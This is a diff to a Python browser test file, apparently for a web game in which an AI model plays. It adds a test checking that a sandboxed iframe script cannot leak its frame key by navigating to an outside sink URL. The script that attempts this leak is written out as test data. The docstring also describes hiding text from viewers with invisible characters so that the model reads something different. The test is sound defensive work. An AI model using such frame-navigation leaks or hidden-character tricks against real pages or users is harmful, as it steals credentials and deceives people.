@@ -6,7 +6,8 @@ page -- kept sending other words: the viewer's press on *Send* made the page act
 frame's next message went through, its answer replaced the box's words and what Send sends,
 and the click that followed sent words the viewer never read. And words hiding characters a
 browser draws as nothing (tag characters, zero-width spaces) showed the viewer one thing while
-the model read another.
+the model read another. A pack's choice labelled one thing sent a keeper command. (A frame
+navigating itself elsewhere, its frame key in its address, is stopped: checked here.)
 """
 
 from __future__ import annotations
@@ -144,3 +145,33 @@ def test_a_choice_that_sends_a_command_shows_it_on_the_page(browser, kernel, tab
         assert buttons.nth(1).inner_text() == "Look around"
         assert not page.errors  # type: ignore[attr-defined]
         page.context.close()
+
+
+NAVIGATOR_JS = """
+document.getElementById("go").addEventListener("click", function () {
+  location.href = "SINK/nav?where=" + encodeURIComponent(location.pathname);
+});
+setTimeout(function () { location.href = "SINK/nav-unprompted?where=" + encodeURIComponent(location.pathname); }, 1500);
+"""
+
+
+def test_a_frame_cannot_carry_its_address_away_by_navigating(browser, kernel, table_room: Path,  # noqa: ANN001
+                                                            tmp_path: Path) -> None:
+    """A frame's address holds its seat's frame key; a script navigating its own frame elsewhere
+    (sandboxed frames may) would carry it off. The page's ``frame-src 'self'`` stops it."""
+    from test_browser import Sink
+
+    sink = Sink()
+    try:
+        _panel(tmp_path, kernel, table_room, "navigator", NAVIGATOR_JS.replace("SINK", sink.url))
+        table = Table(kernel, table_room, TurnSource(deque([recorded()])), seed=5)
+        with Server(table) as server:
+            page = open_page(browser, server.link("p1"))
+            page.frame_locator("iframe[data-panel='navigator/navigator']").locator("#go").click(timeout=5000)
+            page.wait_for_timeout(2500)
+            assert sink.hits == []
+            page.goto(sink.url + "/control")  # the sink does hear this browser
+            assert sink.hits == ["/control"]
+            page.context.close()
+    finally:
+        sink.close()
